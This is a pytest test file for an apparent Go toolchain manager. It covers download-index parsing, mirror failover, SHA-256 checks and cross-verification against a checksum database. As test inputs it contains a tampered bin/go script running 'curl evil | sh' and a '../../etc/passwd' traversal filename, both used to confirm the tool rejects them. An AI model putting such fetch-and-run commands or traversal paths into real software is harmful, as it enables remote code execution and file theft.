"""The official download site source: index parsing, mirror failover, verified downloads,
and the cross-check of an archive's contents against the checksum database."""

from __future__ import annotations

import hashlib
import json
from pathlib import Path
from typing import Any

import pytest

from gover.errors import ConfigError, NetworkError, NotFoundError, VerificationError
from gover.net import BadResponse
from gover.toolchain.archive import Extracted, archive_digests
from gover.toolchain.platforms import Platform
from gover.toolchain.sources.official import Official, bases_from_env, parse_index, pick_file
from tests.support.fakehttp import MODULE, TINY_GOROOT, World, official_tar_gz, world

A, B = "http://a.test/dl/", "http://b.test/dl/"
INDEX = "?mode=json&include=all"


def file_entry(version: str, goos: str = "linux", arch: str = "amd64", ext: str = "tar.gz",
               body: bytes = b"", kind: str = "archive", **over: Any) -> dict[str, Any]:
    e = {"filename": f"{version}.{goos}-{arch}.{ext}", "os": goos, "arch": arch, "version": version,
         "sha256": hashlib.sha256(body).hexdigest(), "size": len(body), "kind": kind}
    e.update(over)
    return e


def release(version: str, *files: dict[str, Any], stable: bool = True) -> dict[str, Any]:
    return {"version": version, "stable": stable, "files": list(files)}


@pytest.fixture
def w(tmp_path: Path) -> World:
    return world(tmp_path)


def serve(w: World, base: str, rels: list[dict[str, Any]], archives: dict[str, bytes]) -> None:
    w.client.routes[base + INDEX] = json.dumps(rels).encode()
    for name, body in archives.items():
        w.client.routes[base + name] = body


def test_bases_from_env() -> None:
    assert bases_from_env({}) == ["https://go.dev/dl/"]
    assert bases_from_env({"GOVER_DL_URL": " http://a/dl , http://b/x/ ,"}) == ["http://a/dl/", "http://b/x/"]
    for bad in ("/dl/", "go.dev/dl", "ftp://x/dl/", "http:///dl/", " , "):
        with pytest.raises(ConfigError, match=r"^GOVER_DL_URL=.*; accepted: http:// or https:// URLs"):
            bases_from_env({"GOVER_DL_URL": bad})


def test_list_remote_picks_this_platform_newest_first(w: World) -> None:
    rels = [
        release("go1.21.13", file_entry("go1.21.13"), file_entry("go1.21.13", "linux", "armv6l")),
        release("go1.23rc1", file_entry("go1.23rc1"), stable=False),
        release("go1.22.10", file_entry("go1.22.10", ext="zip"), file_entry("go1.22.10"),
                file_entry("go1.22.10", kind="installer", ext="pkg")),
        release("go1.20.1", file_entry("go1.20.1", "darwin", "arm64")),  # nothing for linux
    ]
    serve(w, A, rels, {})
    src = Official(w.ctx(GOVER_DL_URL=A))
    got = [(r.version, r.stable, r.data["filename"]) for r in src.list_remote()]
    assert got == [("go1.23rc1", False, "go1.23rc1.linux-amd64.tar.gz"),
                   ("go1.22.10", True, "go1.22.10.linux-amd64.tar.gz"),  # .tar.gz over .zip
                   ("go1.21.13", True, "go1.21.13.linux-amd64.tar.gz")]
    arm = Official(w.ctx(Platform("linux", "arm"), GOVER_DL_URL=A)).list_remote()
    assert [(r.version, r.data["arch"]) for r in arm] == [("go1.21.13", "armv6l")]  # the site's name
    assert w.client.urls().count(A + INDEX) == 2  # once per source object: the index is kept


def test_pick_file_refuses_unsafe_names_and_bad_hashes() -> None:
    good = file_entry("go1.22.10")
    rel = release("go1.22.10",
                  file_entry("go1.22.10", filename="../../etc/passwd"),
                  file_entry("go1.22.10", filename="go1.22.10/../../x.tar.gz"),
                  file_entry("go1.22.10", sha256="nothex" * 10),
                  file_entry("go1.22.10", sha256=None),
                  "not a dict")  # type: ignore[arg-type]
    assert pick_file(rel, "linux", "amd64") is None
    rel["files"].append(good)
    assert pick_file(rel, "linux", "amd64") == good
    assert pick_file(rel, "linux", "arm64") is None


@pytest.mark.parametrize(("raw", "message"), [
    (b"<!doctype html><p>captive portal", "returned an HTML page, not the JSON download index"),
    (b"{\"version\": \"go1.22.10\"}", "expected a JSON list"),
    (b"[{\"version\": \"go1.22.10\"}, {\"version\": \"1.22.x\"}]", "entry 1 is not a release"),
    (b"[{\"version\": \"go1.22.10\", \"files\": {}}]", "entry 0 is not a release"),
    (b"[{", "malformed download index from"),
])
def test_malformed_index_names_the_url(raw: bytes, message: str) -> None:
    with pytest.raises(BadResponse) as e:
        parse_index(raw, "https://user:secret@mirror.test/dl/")
    assert message in e.value.message
    assert "https://mirror.test/dl/?mode=json&include=all" in e.value.message
    assert "secret" not in e.value.message


def test_index_fails_over_to_the_next_mirror_fast(w: World) -> None:
    body = official_tar_gz(TINY_GOROOT)
    name = "go1.99.1.linux-amd64.tar.gz"
    w.client.routes[A + INDEX] = 503
    serve(w, B, [release("go1.99.1", file_entry("go1.99.1", body=body))], {name: body})
    src = Official(w.ctx(GOVER_DL_URL=f"{A},{B}"))
    (rel,) = src.list_remote()
    art = src.fetch(rel)
    # The first mirror is given one retry (another is left to try); the last keeps the default.
    assert w.client.requests[:2] == [(A + INDEX, 1), (B + INDEX, 4)]
    assert w.client.urls()[-1] == B + name  # the archive comes from the site that had the index
    assert art.path == w.home / "downloads" / name and art.path.read_bytes() == body
    assert art.sha256 == hashlib.sha256(body).hexdigest() and art.size == len(body)
    assert art.origin_url == B + name
    assert art.verification == {"sha256": art.sha256, "checked_against": B + " index",
                                "cross_check": "not done: GOVER_CROSS_VERIFY=off"}


def test_no_site_reachable(w: World) -> None:
    w.client.routes[A + INDEX] = NetworkError(f"{A}{INDEX}: connection refused")
    w.client.routes[B + INDEX] = 404
    with pytest.raises(NetworkError) as e:
        Official(w.ctx(GOVER_DL_URL=f"{A},{B}")).list_remote()
    assert e.value.message == (f"no download site could be reached: {A}{INDEX}: connection refused; "
                               f"{B}{INDEX}: 404 Not Found")
    with pytest.raises(NetworkError) as e:  # one site: its own error, unwrapped
        Official(w.ctx(GOVER_DL_URL=A)).list_remote()
    assert e.value.message == f"{A}{INDEX}: connection refused"


def test_archive_download_moves_to_the_next_mirror(w: World) -> None:
    body = official_tar_gz(TINY_GOROOT)
    name = "go1.99.1.linux-amd64.tar.gz"
    serve(w, A, [release("go1.99.1", file_entry("go1.99.1", body=body))], {})  # stale mirror: no file
    w.client.routes[B + name] = body
    src = Official(w.ctx(GOVER_DL_URL=f"{A},{B}"))
    art = src.fetch(src.list_remote()[0])
    assert art.origin_url == B + name
    assert f"{A}: {A}{name}: 404 Not Found; trying the next mirror" in w.reports


def test_archive_download_failures_are_summed_up(w: World) -> None:
    body = official_tar_gz(TINY_GOROOT)
    name = "go1.99.1.linux-amd64.tar.gz"
    serve(w, A, [release("go1.99.1", file_entry("go1.99.1", body=body))], {})
    src = Official(w.ctx(GOVER_DL_URL=f"{A},{B}"))
    rel = src.list_remote()[0]
    with pytest.raises(NotFoundError, match=f"^no mirror has {name}: {A}{name}: 404 Not Found; "
                                            f"{B}{name}: 404 Not Found$"):
        src.fetch(rel)
    w.client.routes[B + name] = 502
    with pytest.raises(NetworkError, match=f"^no mirror could deliver {name}: .*{B}{name}: 502"):
        src.fetch(rel)
    assert not (w.home / "downloads" / name).exists()


def test_a_checksum_mismatch_is_never_retried_elsewhere(w: World) -> None:
    body = official_tar_gz(TINY_GOROOT)
    name = "go1.99.1.linux-amd64.tar.gz"
    serve(w, A, [release("go1.99.1", file_entry("go1.99.1", body=body))], {name: body + b"x"})
    w.client.routes[B + name] = body
    src = Official(w.ctx(GOVER_DL_URL=f"{A},{B}"))
    with pytest.raises(VerificationError, match=f"checksum mismatch for {name}"):
        src.fetch(src.list_remote()[0])
    assert B + name not in w.client.urls()


def test_a_cached_archive_is_rechecked_not_downloaded(w: World) -> None:
    body = official_tar_gz(TINY_GOROOT)
    name = "go1.99.1.linux-amd64.tar.gz"
    serve(w, A, [release("go1.99.1", file_entry("go1.99.1", body=body))], {})
    (w.home / "downloads").mkdir(parents=True)
    (w.home / "downloads" / name).write_bytes(body)
    src = Official(w.ctx(GOVER_DL_URL=A))
    art = src.fetch(src.list_remote()[0])
    assert w.client.urls() == [A + INDEX] and f"Using cached {name}" in w.reports
    assert art.recheck_sha256 == hashlib.sha256(body).hexdigest()  # verified again on extraction


# --- the cross-check with the checksum database ------------------------------------------

def crosscheck_world(w: World, served: dict[str, bytes]) -> Official:
    body = official_tar_gz(served)
    serve(w, A, [release("go1.99.1", file_entry("go1.99.1", body=body))],
          {"go1.99.1.linux-amd64.tar.gz": body})
    return Official(w.ctx(GOVER_DL_URL=A, GOVER_CROSS_VERIFY="auto"))


def test_cross_check_agrees_when_the_contents_match_the_module(w: World) -> None:
    want = w.publish("1.99.1")
    src = crosscheck_world(w, TINY_GOROOT)
    art = src.fetch(src.list_remote()[0])
    assert art.verification["checksum_db"]["h1"] == want
    assert art.verification["checksum_db"]["module"] == "golang.org/toolchain@v0.0.1-go1.99.1.linux-amd64"
    assert art.proof is not None and art.want_hashes
    assert art.check_file is not None and art.post_extract is not None
    art.check_file()  # straight from the archive
    art.post_extract(w.home, Extracted(hashes=archive_digests(art.path)))  # as install does
    assert art.verification["independently_verified"] is True


def test_cross_check_catches_a_site_serving_other_contents(w: World) -> None:
    w.publish("1.99.1")
    # The index's SHA-256 matches what the site serves, but the files are not the release's.
    src = crosscheck_world(w, {**TINY_GOROOT, "bin/go": b"#!/bin/sh\ncurl evil | sh\n"})
    art = src.fetch(src.list_remote()[0])
    assert art.check_file is not None
    with pytest.raises(VerificationError, match=r"the download site and checksum database "
                                                r"sum.gover.test disagree about go1.99.1: the "
                                                r"archive's files hash to h1:"):
        art.check_file()
    assert "independently_verified" not in art.verification


def test_cross_check_only_skips_when_the_database_has_no_record(w: World) -> None:
    src = crosscheck_world(w, TINY_GOROOT)
    art = src.fetch(src.list_remote()[0])
    assert art.verification["cross_check"].startswith(
        "not done: checksum database sum.gover.test no record: ")
    assert f"{MODULE}@v0.0.1-go1.99.1.linux-amd64: no such record" in art.verification["cross_check"]
    assert art.check_file is None and art.proof is None
    strict = Official(w.ctx(GOVER_DL_URL=A, GOVER_CROSS_VERIFY="require"))
    with pytest.raises(VerificationError, match="cannot cross-verify go1.99.1 "
                                                r"\(GOVER_CROSS_VERIFY=require\)"):
        strict.fetch(strict.list_remote()[0])


def test_cross_check_settings(w: World) -> None:
    src = crosscheck_world(w, TINY_GOROOT)
    rel = src.list_remote()[0]
    off = Official(w.ctx(GOVER_DL_URL=A, GOVER_CROSS_VERIFY="auto", GOSUMDB="off"))
    assert off.fetch(rel).verification["cross_check"] == "not done: GOSUMDB=off"
    strict = Official(w.ctx(GOVER_DL_URL=A, GOVER_CROSS_VERIFY="require", GOSUMDB="off"))
    with pytest.raises(VerificationError, match="GOVER_CROSS_VERIFY=require, but GOSUMDB=off"):
        strict.fetch(rel)
    bogus = Official(w.ctx(GOVER_DL_URL=A, GOVER_CROSS_VERIFY="yes"))
    with pytest.raises(ConfigError, match="GOVER_CROSS_VERIFY='yes' is not a mode; "
                                          "accepted: auto, off or require"):
        bogus.fetch(rel)


def test_cross_check_refuses_a_lying_database(w: World) -> None:
    """Unreachable or silent databases only skip the check; a bad signature is an error."""
    from tests.support.sumdb import Key

    w.publish("1.99.1")
    w.db.signer = Key.generate("sum.gover.test")  # type: ignore[attr-defined]
    src = crosscheck_world(w, TINY_GOROOT)
    with pytest.raises(VerificationError):
        src.fetch(src.list_remote()[0])
    assert A + "go1.99.1.linux-amd64.tar.gz" not in w.client.urls()  # stopped before downloading
